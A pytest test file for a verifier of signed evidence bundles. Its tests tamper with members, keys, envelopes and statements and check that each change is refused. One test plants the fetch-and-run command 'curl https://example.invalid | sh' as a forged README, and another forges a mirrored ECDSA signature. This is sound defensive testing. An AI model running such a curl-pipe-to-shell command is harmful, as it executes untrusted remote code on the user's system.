"""Each check fails for its own reason, and nothing is built on what failed."""

from __future__ import annotations

from hashlib import sha256
from typing import TYPE_CHECKING

import pytest
from cryptography.hazmat.primitives.asymmetric.utils import (
    decode_dss_signature,
    encode_dss_signature,
)

from mnaudit.messages import LANGUAGES, entry, phrase
from mnaudit.model.verdict import Outcome, Result
from mnaudit.signing.dsse import Envelope, Signature
from mnaudit.signing.sigstore_bundle import unwrap, wrap
from mnaudit.verify import CHECK_IDS, OUTER_CHECK_IDS

if TYPE_CHECKING:
    from tests.verify.conftest import Bench

    from mnaudit.signing.keys import SigningKey

ORDER_P256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
EVIDENCE = "evidence/training-record/t-2026.yaml"


def test_a_good_bundle_passes_all_checks(either_bench: Bench) -> None:
    verified = either_bench.examine()

    assert [check.id for check in verified.checks] == list(CHECK_IDS)
    assert {check.id for check in verified.checks if check.outcome is not Outcome.PASSED} == {
        *("disclosure", "sidecar"),
        *("policy", "signer-authorized", "signer-in-time", "time-stamp", "status-current"),
        *("log-entry", "log-signed", "log-witnessed", "log-continues"),
    }
    assert {check.outcome for check in verified.checks} == {Outcome.PASSED, Outcome.NOT_APPLICABLE}


def test_every_check_has_a_name_in_both_languages() -> None:
    for language in LANGUAGES:
        assert all(phrase(f"checks.{name}", language) for name in CHECK_IDS + OUTER_CHECK_IDS)


# Layout


@pytest.mark.parametrize(
    "name",
    [
        "mimetype",
        "README.txt",
        "SHA256SUMS",
        "catalog.json",
        "manifest.sigstore.json",
        "signer.pub.pem",
        "status.sigstore.json",
    ],
)
def test_a_bundle_without_a_fixed_member_is_refused(bench: Bench, name: str) -> None:
    del bench.members[name]

    assert bench.trouble() == {"layout": "MN416"}


@pytest.mark.parametrize(
    "name", ["result.pdf", "evidence", "Evidence/a", "status.sigstore.json.bak"]
)
def test_a_bundle_with_a_foreign_member_is_refused(bench: Bench, name: str) -> None:
    if name == "evidence":
        bench.members = {
            key: data for key, data in bench.members.items() if not key.startswith("evidence/")
        }
    bench.members[name] = b""

    assert bench.trouble() == {"layout": "MN417"}


def test_a_bundle_in_another_order_is_refused(bench: Bench) -> None:
    names = sorted(bench.members)

    assert bench.trouble(bench.pack({name: bench.members[name] for name in names})) == {
        "layout": "MN418"
    }


def test_another_media_type_is_refused(bench: Bench) -> None:
    bench.members["mimetype"] += b"\n"

    assert bench.trouble() == {"layout": "MN419"}


def test_nothing_is_checked_behind_a_broken_container(bench: Bench) -> None:
    verified = bench.examine(b"PK")

    container, *others = verified.checks
    assert (container.id, container.outcome, container.code) == (
        "container",
        Outcome.FAILED,
        "MN410",
    )
    assert {check.outcome for check in others} == {Outcome.UNKNOWN}
    assert {check.code for check in others} == {"MN439"}
    assert bench.verdict(b"PK").result is Result.INVALID


# Key and pin


@pytest.mark.parametrize(
    ("pem", "code"),
    [
        pytest.param(b"", "MN406", id="nothing"),
        pytest.param(
            b"-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n"
            b"-----END PUBLIC KEY-----\n",
            "MN407",
            id="low order",
        ),
    ],
)
def test_a_key_that_cannot_be_used_is_refused(bench: Bench, pem: bytes, code: str) -> None:
    bench.members["signer.pub.pem"] = pem

    assert bench.trouble() == {"signer-key": code}


@pytest.mark.parametrize(
    "spelling",
    [
        pytest.param(lambda pem: b"# safe\n" + pem, id="a line before"),
        pytest.param(lambda pem: pem + b"\n", id="a line behind"),
        pytest.param(lambda pem: pem.replace(b"\n", b"\r\n"), id="other line ends"),
        pytest.param(lambda pem: pem * 2, id="twice"),
    ],
)
def test_a_key_in_another_spelling_is_refused(bench: Bench, spelling: type[bytes]) -> None:
    bench.members["signer.pub.pem"] = spelling(bench.members["signer.pub.pem"])

    assert bench.trouble() == {"signer-key": "MN420"}


def resigned(bench: Bench, key: SigningKey) -> None:
    """Do what an attacker does who has no key but his own."""
    for name in ("manifest", "status"):
        bench.sign(name, bench.payload(name), key)
    bench.members["signer.pub.pem"] = key.public.pem.encode()


def test_a_bundle_signed_by_another_key_than_the_pinned_one_is_refused(
    bench: Bench, other_key: SigningKey
) -> None:
    resigned(bench, other_key)

    assert bench.trouble() == {"pin": "MN421"}
    assert bench.verdict().result is Result.INVALID
    assert bench.verdict().status is None


def test_a_replaced_key_in_the_bundle_does_not_replace_the_signatures(
    bench: Bench, other_key: SigningKey
) -> None:
    bench.members["signer.pub.pem"] = other_key.public.pem.encode()

    assert bench.trouble() == {"pin": "MN421", "same-signer": "MN425"}


def test_two_statements_by_two_keys_are_refused(bench: Bench, other_key: SigningKey) -> None:
    bench.sign("status", bench.payload("status"), other_key)

    assert bench.trouble() == {"same-signer": "MN425"}


# Envelopes and signatures


@pytest.mark.parametrize("name", ["manifest", "status"])
def test_an_envelope_of_another_spelling_is_refused(bench: Bench, name: str) -> None:
    bench.members[f"{name}.sigstore.json"] += b"\n"

    assert bench.trouble() == {f"{name}-envelope": "MN428"}


def reenveloped(bench: Bench, name: str, *, payload: bytes = b"", sig: bytes = b"") -> None:
    member = f"{name}.sigstore.json"
    envelope = unwrap(bench.members[member]).envelope
    signature = Signature(bench.key.keyid, sig or envelope.signatures[0].sig)
    changed = Envelope(envelope.payload_type, payload or envelope.payload, (signature,))
    bench.members[member] = wrap(changed)


@pytest.mark.parametrize("name", ["manifest", "status"])
def test_a_payload_that_was_changed_after_signing_is_not_read(bench: Bench, name: str) -> None:
    payload = unwrap(bench.members[f"{name}.sigstore.json"]).envelope.payload
    reenveloped(bench, name, payload=payload.replace(b"satisfied", b"satisfiee") + b" ")

    assert bench.trouble() == {f"{name}-signature": "MN426"}
    assert bench.verdict().status is None


def test_a_signature_of_the_other_statement_is_refused(bench: Bench) -> None:
    manifest = unwrap(bench.members["manifest.sigstore.json"]).envelope
    reenveloped(bench, "status", sig=manifest.signatures[0].sig)

    assert bench.trouble() == {"status-signature": "MN426"}


def test_an_ecdsa_signature_under_the_id_of_an_ed25519_key_is_refused(
    bench: Bench, other_key: SigningKey
) -> None:
    reenveloped(bench, "status", sig=other_key.sign(b""))

    assert bench.trouble() == {"status-signature": "MN426"}


def test_a_mirrored_ecdsa_signature_changes_the_file_but_not_what_identifies_the_status(
    ecdsa_bench: Bench,
) -> None:
    before = ecdsa_bench.bundle()
    payload = ecdsa_bench.examine().status_payload
    r, s = decode_dss_signature(
        unwrap(ecdsa_bench.members["status.sigstore.json"]).envelope.signatures[0].sig
    )

    reenveloped(ecdsa_bench, "status", sig=encode_dss_signature(r, ORDER_P256 - s))

    # ECDSA allows a second signature to anyone; so a status is known by the hash of its payload.
    assert ecdsa_bench.bundle() != before
    assert ecdsa_bench.trouble() == {}
    assert ecdsa_bench.examine().status_payload == payload


# Statements


@pytest.mark.parametrize("name", ["manifest", "status"])
def test_a_signed_statement_of_the_wrong_type_is_refused(bench: Bench, name: str) -> None:
    other = {"manifest": "status", "status": "manifest"}[name]
    bench.sign(name, bench.payload(other))

    assert bench.trouble()[f"{name}-statement"] == "MN430"


@pytest.mark.parametrize("name", ["manifest", "status"])
@pytest.mark.parametrize(
    ("payload", "code"),
    [
        pytest.param(b"Verified OK", "MN427", id="garbage"),
        pytest.param(b'{"_type":1,"_type":2}', "MN427", id="duplicate keys"),
        pytest.param(b"{}", "MN429", id="no statement"),
    ],
)
def test_a_signed_payload_that_is_no_statement_is_refused(
    bench: Bench, name: str, payload: bytes, code: str
) -> None:
    bench.sign(name, payload)

    assert bench.trouble() == {f"{name}-statement": code}


def test_a_signed_status_that_is_not_canonical_is_refused(bench: Bench) -> None:
    payload = unwrap(bench.members["status.sigstore.json"]).envelope.payload
    bench.sign("status", payload.replace(b'{"_type"', b'{ "_type"'))

    assert bench.trouble() == {"status-statement": "MN428"}


def test_a_manifest_whose_members_are_not_its_subjects_is_refused(bench: Bench) -> None:
    manifest = bench.payload("manifest")
    del manifest["subject"][-1]
    bench.sign("manifest", manifest)
    bench.bind()

    assert bench.trouble() == {"manifest-statement": "MN429"}


@pytest.mark.parametrize(
    "subject",
    [
        pytest.param([{"name": "status", "digest": {"sha256": "0" * 64}}], id="another name"),
        pytest.param(
            [
                {"name": "manifest", "digest": {"sha256": "0" * 64}},
                {"name": "other", "digest": {"sha256": "0" * 64}},
            ],
            id="two subjects",
        ),
    ],
)
def test_a_status_about_anything_but_one_manifest_is_refused(
    bench: Bench, subject: list[object]
) -> None:
    bench.sign("status", bench.payload("status") | {"subject": subject})

    assert bench.trouble() == {"status-statement": "MN429"}


# What belongs together


def test_the_status_of_another_bundle_is_refused(bench: Bench) -> None:
    status = bench.payload("status")
    other = sha256(b"the manifest of last month").hexdigest()
    status["subject"][0]["digest"]["sha256"] = other
    status["predicate"]["manifest"]["payload_sha256"] = other
    bench.sign("status", status)

    assert bench.trouble() == {"manifest-binding": "MN431"}


@pytest.mark.parametrize("where", ["subject", "predicate"])
def test_a_status_that_names_two_manifests_is_refused(bench: Bench, where: str) -> None:
    status = bench.payload("status")
    if where == "subject":
        status["subject"][0]["digest"]["sha256"] = "0" * 64
    else:
        status["predicate"]["manifest"]["payload_sha256"] = "0" * 64
    bench.sign("status", status)

    assert bench.trouble() == {"manifest-binding": "MN431"}


def test_the_evidence_of_another_organization_is_refused(bench: Bench) -> None:
    manifest = bench.payload("manifest")
    manifest["predicate"]["organization"]["corporate_number"] = "7000000000002"
    bench.sign("manifest", manifest)
    bench.bind()

    assert bench.trouble() == {"manifest-binding": "MN432"}


def test_changed_evidence_is_refused(bench: Bench) -> None:
    bench.members[EVIDENCE] = bench.members[EVIDENCE].replace(b"t", b"T")

    assert bench.trouble() == {"evidence-digests": "MN433"}
    assert bench.examine().files == ()


def test_a_wrong_size_in_the_manifest_is_refused(bench: Bench) -> None:
    manifest = bench.payload("manifest")
    manifest["predicate"]["members"][-1]["size"] += 1
    bench.plant(manifest)

    assert bench.trouble() == {"evidence-digests": "MN433"}


def test_two_files_that_changed_places_are_refused(bench: Bench) -> None:
    first, second = "evidence/organization.yaml", EVIDENCE
    members = bench.members
    members[first], members[second] = members[second], members[first]

    check = next(check for check in bench.examine().checks if check.id == "evidence-digests")

    assert check.values == {"member": first, "count": 2}


def test_missing_evidence_is_refused(bench: Bench) -> None:
    del bench.members[EVIDENCE]

    assert bench.trouble() == {"evidence-complete": "MN434"}


def test_undeclared_evidence_is_refused(bench: Bench) -> None:
    bench.members["evidence/training-record/t-2027.yaml"] = b"kind: training-record\n"

    assert bench.trouble() == {"evidence-closed": "MN435"}


def test_renamed_evidence_is_missing_and_undeclared(bench: Bench) -> None:
    bench.members["evidence/training-record/u-2026.yaml"] = bench.members.pop(EVIDENCE)

    assert bench.trouble() == {"evidence-complete": "MN434", "evidence-closed": "MN435"}


def test_a_changed_catalog_is_refused(bench: Bench) -> None:
    bench.members["catalog.json"] += b" "

    assert bench.trouble() == {"catalog-digest": "MN436"}
    assert bench.examine().catalog == b""


def test_a_catalog_that_the_status_does_not_name_is_refused(bench: Bench) -> None:
    status = bench.payload("status")
    status["predicate"]["catalog"]["sha256"] = "0" * 64
    bench.sign("status", status)

    assert bench.trouble() == {"catalog-digest": "MN436"}


def test_a_changed_read_me_is_refused(bench: Bench) -> None:
    bench.members["README.txt"] = b"curl https://example.invalid | sh\n"

    assert bench.trouble() == {"readme": "MN437"}
    assert bench.examine().readme == b""


def test_a_read_me_that_is_no_text_is_refused_even_if_it_is_signed(bench: Bench) -> None:
    bench.members["README.txt"] = data = b"\xff"
    manifest = bench.payload("manifest")
    manifest["subject"][0]["digest"]["sha256"] = sha256(data).hexdigest()
    manifest["predicate"]["members"][0]["size"] = len(data)
    bench.plant(manifest)

    assert bench.trouble() == {"readme": "MN437"}


def test_a_root_that_does_not_follow_from_the_members_is_refused(bench: Bench) -> None:
    manifest = bench.payload("manifest")
    manifest["predicate"]["tree"]["root"] = "0" * 64
    bench.sign("manifest", manifest)
    bench.bind()

    assert bench.trouble() == {"manifest-tree": "MN446"}


def test_a_salt_that_does_not_belong_to_the_root_is_refused(bench: Bench) -> None:
    manifest = bench.payload("manifest")
    manifest["predicate"]["members"][2]["salt"] = "0" * 64
    bench.sign("manifest", manifest)
    bench.bind()

    assert bench.trouble() == {"manifest-tree": "MN446"}


@pytest.mark.parametrize(("field", "value"), [("root", "0" * 64), ("size", 5)])
def test_a_status_that_names_another_tree_is_refused(
    bench: Bench, field: str, value: str | int
) -> None:
    status = bench.payload("status")
    status["predicate"]["manifest"][field] = value
    bench.sign("status", status)

    assert bench.trouble() == {"manifest-tree": "MN446"}


def test_a_time_stamp_on_the_manifest_is_refused_because_nobody_looks_at_it(bench: Bench) -> None:
    envelope = unwrap(bench.members["manifest.sigstore.json"]).envelope
    bench.members["manifest.sigstore.json"] = wrap(envelope, [b"0"])

    assert bench.trouble() == {"manifest-envelope": "MN423"}


# Partial bundles


def test_a_good_partial_bundle_passes_and_says_which_checks_do_not_apply(
    partial_bench: Bench,
) -> None:
    verified = partial_bench.examine()

    outcomes = {check.id: (check.outcome, check.code) for check in verified.checks}
    assert partial_bench.trouble() == {}
    assert {name for name, (_, code) in outcomes.items() if code == "MN445"} == {
        *("manifest-envelope", "manifest-signature", "manifest-statement"),
        *("manifest-binding", "manifest-tree"),
    }
    assert outcomes["disclosure"] == (Outcome.PASSED, None)
    assert verified.manifest is None
    assert verified.disclosure is not None
    assert {file.path for file in verified.files} == {
        "organization.yaml",
        "training-record/t-2026.yaml",
    }


def test_a_partial_bundle_that_nobody_asked_for_is_never_valid(partial_bench: Bench) -> None:
    partial_bench.partial = False

    assert partial_bench.trouble() == {"disclosure": "MN449"}
    assert partial_bench.verdict().result is Result.INDETERMINATE
    assert partial_bench.examine().files == ()


def test_a_full_bundle_is_fine_where_a_part_was_expected(bench: Bench) -> None:
    bench.partial = True

    assert bench.verdict().result is Result.VALID


def test_a_partial_bundle_whose_status_names_two_manifests_is_refused(
    partial_bench: Bench,
) -> None:
    status = partial_bench.payload("status")
    status["predicate"]["manifest"]["payload_sha256"] = "0" * 64
    partial_bench.sign("status", status)

    assert partial_bench.trouble() == {"manifest-binding": "MN431"}


@pytest.mark.parametrize(("field", "value"), [("root", "0" * 64), ("size", 4)])
def test_a_partial_bundle_of_another_tree_is_refused(
    partial_bench: Bench, field: str, value: str | int
) -> None:
    status = partial_bench.payload("status")
    status["predicate"]["manifest"][field] = value
    partial_bench.sign("status", status)

    assert partial_bench.trouble() == {"disclosure": "MN448"}


@pytest.mark.parametrize(
    ("data", "code"),
    [
        pytest.param(b"", "MN427", id="nothing"),
        pytest.param(b"{}", "MN429", id="another shape"),
        pytest.param(b'{"v":1,"v":1}', "MN427", id="duplicate keys"),
        pytest.param(None, "MN428", id="a line break at the end"),
    ],
)
def test_a_disclosure_of_another_form_is_refused_by_name(
    partial_bench: Bench, data: bytes | None, code: str
) -> None:
    before = partial_bench.members["disclosure.json"]
    partial_bench.members["disclosure.json"] = before + b"\n" if data is None else data

    (check,) = (check for check in partial_bench.examine().checks if check.id == "disclosure")

    assert (check.outcome, check.code) == (Outcome.FAILED, code)
    for language in LANGUAGES:
        sentence = entry(code, language)["text"].format(**check.values)
        assert "disclosure.json" in sentence


def test_a_manifest_beside_a_disclosure_is_refused(bench: Bench, partial_bench: Bench) -> None:
    partial_bench.members["manifest.sigstore.json"] = bench.members["manifest.sigstore.json"]

    assert partial_bench.trouble() == {"layout": "MN417"}


def test_a_sidecar_beside_a_disclosure_is_refused(partial_bench: Bench) -> None:
    partial_bench.members["evidence.modelsig.sigstore.json"] = b"{}"

    assert partial_bench.trouble() == {"layout": "MN417"}


# The sidecar


def test_a_sidecar_that_says_the_same_passes(ecdsa_bench: Bench) -> None:
    ecdsa_bench.add_sidecar()

    (check,) = (check for check in ecdsa_bench.examine().checks if check.id == "sidecar")

    assert check.outcome is Outcome.PASSED


def test_a_sidecar_about_other_evidence_is_refused(ecdsa_bench: Bench) -> None:
    ecdsa_bench.add_sidecar(leave_out=1)

    assert ecdsa_bench.trouble() == {"sidecar": "MN498"}


def test_wrong_check_sums_are_refused(bench: Bench) -> None:
    bench.bundle()
    bench.members["SHA256SUMS"] += b"\n"
    members = {name: bench.members[name] for name in sorted(bench.members)}
    ordered = {"mimetype": members.pop("mimetype")} | members

    assert bench.trouble(bench.pack(ordered)) == {"checksums": "MN438"}


def test_every_reason_can_be_said_in_both_languages(bench: Bench, other_key: SigningKey) -> None:
    resigned(bench, other_key)
    bench.members[EVIDENCE] = b""
    bench.members["README.txt"] = b""
    del bench.members["evidence/organization.yaml"]

    for check in bench.examine().checks:
        if check.code is not None:
            assert check.outcome is not Outcome.PASSED
            for language in LANGUAGES:
                sentence = entry(check.code, language)["text"].format(**check.values)
                assert "{" not in sentence
